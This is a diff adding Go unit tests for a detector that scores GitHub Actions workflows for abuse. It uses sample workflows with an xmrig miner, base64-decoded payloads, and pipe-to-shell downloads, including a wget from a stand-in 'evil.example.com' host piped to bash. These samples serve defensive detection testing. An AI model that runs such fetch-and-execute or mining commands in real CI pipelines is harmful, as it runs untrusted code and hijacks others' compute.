@@ -0,0 +1,191 @@
+package guard
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestAnalyzeWorkflow(t *testing.T) {
+	cases := []struct {
+		name      string
+		content   string
+		wantScore int
+		wantRules []string
+	}{
+		{
+			name: "clean",
+			content: `
+on: pull_request
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        go: ['1.16', '1.17']
+    steps:
+    - uses: actions/checkout@v2
+    - run: go test ./... && go vet ./...
+`,
+		},
+		{
+			name: "miner",
+			content: `
+on: pull_request
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+    - run: ./xmrig -o stratum+tcp://pool.example.com:3333
+`,
+			wantScore: 100,
+			wantRules: []string{"miner"},
+		},
+		{
+			name: "pipe to shell in background",
+			content: `
+on: pull_request
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+    - run: |
+        curl -sSL https://example.com/x.sh | sudo bash
+        nohup ./x &
+`,
+			wantScore: 80,
+			wantRules: []string{"pipe-to-shell", "background-process"},
+		},
+		{
+			name: "base64",
+			content: `
+on: pull_request
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    env:
+      PAYLOAD: aGVsbG8=
+    steps:
+    - run: echo $PAYLOAD | base64 -d > x
+`,
+			wantScore: 40,
+			wantRules: []string{"base64-payload"},
+		},
+		{
+			name: "huge matrix",
+			content: `
+on: pull_request
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        a: [1, 2, 3, 4, 5, 6, 7, 8]
+        b: [1, 2, 3, 4, 5]
+    steps:
+    - run: echo
+`,
+			wantScore: 40,
+			wantRules: []string{"huge-matrix"},
+		},
+		{
+			name: "expression matrix",
+			content: `
+on: pull_request
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix: ${{ fromJSON(needs.setup.outputs.matrix) }}
+    steps:
+    - run: echo
+`,
+		},
+		{
+			name:      "invalid yaml",
+			content:   "jobs: [xmrig",
+			wantScore: 100,
+			wantRules: []string{"miner"},
+		},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			result := AnalyzeWorkflow([]byte(c.content), DefaultDetectors)
+			if result.Score != c.wantScore {
+				t.Fatalf("%+v", result)
+			}
+			var rules []string
+			for _, f := range result.Findings {
+				rules = append(rules, f.Rule)
+			}
+			if !reflect.DeepEqual(rules, c.wantRules) {
+				t.Fatalf("%+v", result)
+			}
+		})
+	}
+}
+
+func TestAnalyzeWorkflowChange(t *testing.T) {
+	rustup := "jobs:\n  build:\n    steps:\n      - run: |\n          curl -sSf https://sh.rustup.rs | sh -s -- -y\n          cargo build\n"
+	matrix := "jobs:\n  a:\n    strategy:\n      matrix:\n        x: [1,2,3,4,5,6,7,8]\n        y: [1,2,3,4,5,6,7,8]\n"
+
+	cases := []struct {
+		name      string
+		head      string
+		base      *string
+		wantScore int
+		wantRules []string
+	}{
+		{
+			name:      "new workflow",
+			head:      rustup,
+			wantScore: 50,
+			wantRules: []string{"pipe-to-shell"},
+		},
+		{
+			name: "existing installer",
+			head: strings.Replace(rustup, "cargo build", "cargo build --release", 1),
+			base: &rustup,
+		},
+		{
+			name:      "another pipe to shell added",
+			head:      rustup + "      - run: wget -qO- https://evil.example.com/x | bash\n",
+			base:      &rustup,
+			wantScore: 50,
+			wantRules: []string{"pipe-to-shell"},
+		},
+		{
+			name: "existing matrix",
+			head: matrix + "    steps:\n      - run: echo\n",
+			base: &matrix,
+		},
+		{
+			name:      "matrix grown",
+			head:      strings.Replace(matrix, "y: [1,2,3,4,5,6,7,8]", "y: [1,2,3,4,5,6,7,8,9]", 1),
+			base:      &matrix,
+			wantScore: 40,
+			wantRules: []string{"huge-matrix"},
+		},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			var base []byte
+			if c.base != nil {
+				base = []byte(*c.base)
+			}
+			result := AnalyzeWorkflowChange([]byte(c.head), base, DefaultDetectors)
+			if result.Score != c.wantScore {
+				t.Fatalf("%+v", result)
+			}
+			var rules []string
+			for _, f := range result.Findings {
+				rules = append(rules, f.Rule)
+			}
+			if !reflect.DeepEqual(rules, c.wantRules) {
+				t.Fatalf("%+v", result)
+			}
+		})
+	}
+}